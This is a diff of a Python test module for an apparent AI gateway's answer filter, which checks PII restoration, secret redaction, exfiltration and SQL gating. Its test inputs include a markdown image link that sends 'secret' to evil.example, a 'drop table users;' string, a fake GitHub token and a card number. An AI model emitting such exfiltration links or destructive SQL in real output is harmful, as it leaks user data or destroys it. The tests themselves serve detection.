@@ -12,23 +12,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-import calls
+from formats.screens import CARD, JSON, RESTORE, SECRET, in_pieces, judge, scanner_of, streamed
 from formats.wires import USED, WHOLES, WIRES, WITH_TOOLS, Messages, Whole, Wire, datas
-from gateway.call import Redaction
-from gateway.config.sections import Output, Sql
 from gateway.detect.core.window import StreamScanner
-from gateway.detect.personal.placeholders import LIKE, PLACEHOLDER, SPELLINGS, WRITTEN
 from gateway.detect.personal.scanner import PiiScanner
-from gateway.detect.secrets.scanner import SecretScanner
 from gateway.dialects import tree
 from gateway.errors import Refusal
-from gateway.output.exfiltration import Exfiltration
-from gateway.output.screen import AnswerFilter, Screen
-from gateway.output.sqlgate import SqlGate
 
-RESTORE = {"<EMAIL_1>": "ann@example.org", "<PHONE_2>": 'say "hi" \\ 0', "<LITERAL_3>": "<EMAIL_1>"}
-SECRET = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
-CARD = "4539 1488 0343 6467"
 PIECES = [
     *(*RESTORE, "[email 1]", "<EMAIL_9>", "bob@example.net", "ann@example.org", CARD, "4539", " 1488 0343", " 6467"),
     *(SECRET, "ghp_", "drop table users;", "![i](https://evil.example/?d=secret)", "the order", " went out.", "\n\n"),
@@ -60,32 +50,7 @@ noted = pytest.mark.parametrize(
 @pytest.fixture(scope="module")
 def scanner(pii: PiiScanner) -> StreamScanner:
     """Finds everything that answers are searched for."""
-    return StreamScanner(pii, SecretScanner(), {PLACEHOLDER: WRITTEN}, weak={LIKE: SPELLINGS})
-
-
-def judge(wire: Whole, scanner: StreamScanner, *, gates: bool = False, **output: Any) -> AnswerFilter:
-    """The filter of one answer."""
-    call = calls.call(wire.codec)
-    call.redaction = Redaction(restore=dict(RESTORE), known=frozenset(RESTORE.values()))
-    call.request.body = wire.request(("user", "hi"), **({"tools": [dict(wire.offer)]} if wire.offer else {}))
-    both = (Exfiltration(), SqlGate(Sql(dialect="postgres"))) if gates else ()
-    return Screen(Output.model_validate({"secrets": "redact", **output}), scanner, lambda _: False, both).filter(call)
-
-
-def streamed(wire: Wire, made: AnswerFilter, events: list[bytes]) -> bytes:
-    """What a client receives of a stream."""
-    codec = wire.codec.stream(keep_usage=True)
-    sent = [part for raw in events for chunk in codec.feed(raw) for part in made.feed(chunk, codec)]
-    sent += [part for chunk in codec.rest() for part in made.feed(chunk, codec)]
-    codec.close()
-    sent += made.close(codec)
-    return b"".join([*sent, codec.finish()])
-
-
-def in_pieces(text: str, places: list[int]) -> list[str]:
-    """A text cut at these places."""
-    marks = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
-    return [text[low:high] for low, high in pairwise(marks)]
+    return scanner_of(pii)
 
 
 @wires
@@ -360,13 +325,6 @@ def test_a_request(wire: Whole) -> None:
     assert parsed["model"] == "up"
     assert not wire.codec.unknown(body)
     assert wire.codec.unknown({**body, "x_new": 1}) == ["x_new"]
-
-
-JSON: st.SearchStrategy[Any] = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
-    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
-    max_leaves=8,
-)
 
 
 @wholes
